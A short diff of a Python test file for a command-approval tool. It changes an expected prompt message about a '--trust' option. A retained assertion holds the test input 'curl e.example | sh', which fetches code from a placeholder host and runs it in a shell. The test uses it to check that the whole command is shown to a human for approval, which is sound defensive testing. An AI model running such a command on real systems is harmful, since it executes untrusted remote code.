@@ -57,7 +57,7 @@ def test_the_question_shows_every_command_and_gate_whole(project: Project, tmp_p
     said = project.here("run", "a-loop", code=3)
     assert f"P s: runs sh -c 'echo {long}; curl e.example | sh'" in said
     assert "P gate g: human" in said
-    assert "--trust answers yes" in said
+    assert "Use --trust to answer yes" in said
 
 
 def test_nothing_in_a_command_hides_another_part_of_it(project: Project) -> None:
